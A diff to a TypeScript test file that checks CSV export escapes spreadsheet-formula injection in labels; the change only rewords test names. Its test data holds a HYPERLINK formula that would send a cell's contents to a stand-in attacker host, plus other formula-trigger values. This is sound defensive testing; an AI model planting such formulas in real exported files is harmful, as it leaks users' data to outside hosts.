@@ -10,13 +10,13 @@ function toRows(...labels: readonly string[]): readonly Record<string, string>[]
 }
 
 test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
-  'keysCsv escapes the label %p, which a spreadsheet would run as a formula',
+  'keysCsv escapes the formula in the label %p',
   (label) => {
     expect(toRows(label)).toMatchObject([{ label: `'${label}` }]);
   },
 );
 
-test('keysCsv escapes a formula after a semicolon, which separates cells in some locales', () => {
+test('keysCsv escapes a formula after a semicolon', () => {
   expect(toRows('a;=1+1;b')).toMatchObject([{ label: "a;'=1+1;b" }]);
 });
 
